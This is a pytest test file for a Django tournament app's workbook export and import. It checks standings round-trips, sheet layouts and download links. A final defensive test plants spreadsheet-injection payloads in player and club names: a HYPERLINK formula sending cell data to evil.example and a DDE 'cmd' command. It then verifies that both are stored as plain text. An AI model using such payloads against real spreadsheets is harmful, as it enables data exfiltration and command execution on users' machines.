"""Every tournament downloads as a workbook, in the club's layout or GestioneTorneo's, and importing that
file gives back the same standings under every formula."""
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from tournaments.models import Formula
from tables.arbitration.services import penalty_give
from tables.rounds.services import round_close
from tables.standings.selectors import formulas_compared
from tests.html import attr
from tests.factories import ClubFactory, PlayerFactory, RegistrationFactory, report, seat_round
from transfer.workbooks.services import past_tournament_import, past_tournament_read


@pytest.fixture
def played(tournament, organiser):
    """Two rounds of 13 players at tables of 5, 4 and 4 (then 4, 4, 5): RisiKo!, eliminations, a place,
    a points penalty, a player without a club and one with a national ID."""
    club = ClubFactory(name="Club Lariano")
    regs = [RegistrationFactory(tournament=tournament, player__club=club if i % 3 else ClubFactory())
            for i in range(11)]
    regs.append(RegistrationFactory(tournament=tournament, player=PlayerFactory(club=None, nickname="Kamchatka")))
    regs.append(RegistrationFactory(tournament=tournament,
                                    player=PlayerFactory(national_id="IT-0013", created_by=tournament.organiser)))
    first = seat_round(tournament, [regs[:5], regs[5:9], regs[9:]])
    tables = list(first.tables.order_by("number"))
    report(tables[0], [(80, None, True), (40,), (30,), (0, 2), (0, 1)])
    report(tables[1], [(55,), (55,), (20,), (12.5,)])
    report(tables[2], [(61,), (33,), (33,), (0, 1)])
    round_close(user=organiser, rnd=first)
    regs.reverse()
    second = seat_round(tournament, [regs[:4], regs[4:8], regs[8:]])
    tables = list(second.tables.order_by("number"))
    report(tables[0], [(70,), (44,), (21,), (9,)])
    report(tables[1], [(0, 1), (90, None, True), (35,), (0, 2)])
    report(tables[2], [(48,), (48,), (30,), (22,), (0, 1)])
    seat = tables[2].seats.order_by("position").first()
    penalty_give(user=organiser, tournament=tournament, reason="x", points=7, registration=seat.registration, seat=seat)
    round_close(user=organiser, rnd=second)
    return tournament


def by_name(tournament):
    """Every formula's standings by name; a formula the results do not suit (maialino_2024 and a tie for
    first not settled by place), the engine's reason."""
    compared = formulas_compared(tournament, Formula.values)
    return {**{formula: [(row.player.full_name, row.rank, row.total) for row in standings.rows]
               for formula, standings in compared.standings.items()}, **{f: "refused" for f in compared.refused}}


@pytest.mark.parametrize("url", ["manage:tournament_workbook", "manage:tournament_workbook_gestione"])
def test_a_downloaded_workbook_imports_back_to_identical_standings(url, played, organiser, client):
    client.force_login(organiser)
    response = client.get(reverse(url, args=[played.pk]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    past = past_tournament_read(data=response.content, filename="back.xlsx")
    assert past.errors == []
    copy = past_tournament_import(user=organiser, past=past, name="Copia", start_date=played.start_date,
                                  settings={"formula": played.formula, "tiebreak": played.tiebreak}).tournament
    assert set(Formula.values) == set(by_name(copy))   # every formula a tournament may choose
    assert by_name(copy) == by_name(played)
    # the same people, not copies of them
    assert {r.player_id for r in copy.registrations.all()} == {r.player_id for r in played.registrations.all()}


def test_the_club_layout_has_a_sheet_a_round_and_the_standings_for_people(played, organiser, client):
    client.force_login(organiser)
    book = openpyxl.load_workbook(io.BytesIO(client.get(reverse("manage:tournament_workbook", args=[played.pk])).content))
    assert book.sheetnames == ["Turno 1", "Turno 2", "Classifica"]
    header = [c.value for c in book["Turno 1"][1]]
    assert header[:3] == ["Tavolo", "Nome", "Cognome"] and "Punti tavolo" in header and "Penalità" in header
    assert book["Turno 1"].max_row == 14


def test_the_gestionetorneo_layout_lists_the_members_with_their_national_id(played, organiser, client):
    client.force_login(organiser)
    response = client.get(reverse("manage:tournament_workbook_gestione", args=[played.pk]))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Iscritti", "1° Turno", "2° Turno"]
    assert [c.value for c in book["Iscritti"][1]] == ["ID", "Nome", "Cognome", "Nickname", "Club", "ID NAZIONALE"]
    assert "IT-0013" in [row[5] for row in book["Iscritti"].iter_rows(min_row=2, values_only=True)]
    assert book["1° Turno"]["A1"].value == "Tavolo N°1"


def test_the_organisers_tournament_page_links_both_downloads(played, organiser, client):
    client.force_login(organiser)
    page = client.get(reverse("manage:tournament", args=[played.pk]))
    assert attr(page, "[data-download]", "href") == [reverse("manage:tournament_workbook", args=[played.pk]),
                                                      reverse("manage:tournament_workbook_gestione", args=[played.pk])]


HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Rossi")'


@pytest.mark.parametrize("url", ["manage:tournament_workbook", "manage:tournament_workbook_gestione"])
def test_a_name_that_looks_like_a_formula_is_written_as_text_in_both_layouts(url, played, organiser, client):
    """A sign-up named like a formula never becomes a live formula in the organiser's workbook."""
    player = played.registrations.order_by("pk").first().player   # seated in both rounds
    player.first_name, player.last_name, player.nickname = HOSTILE_NAME, "=1+1", "=A1"
    player.save()
    player.club.name = "=cmd|' /C calc'!A0"
    player.club.save()
    client.force_login(organiser)
    content = client.get(reverse(url, args=[played.pk])).content
    book = openpyxl.load_workbook(io.BytesIO(content))   # formulas as formulas, not their values
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert HOSTILE_NAME in {cell.value for cell in cells}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
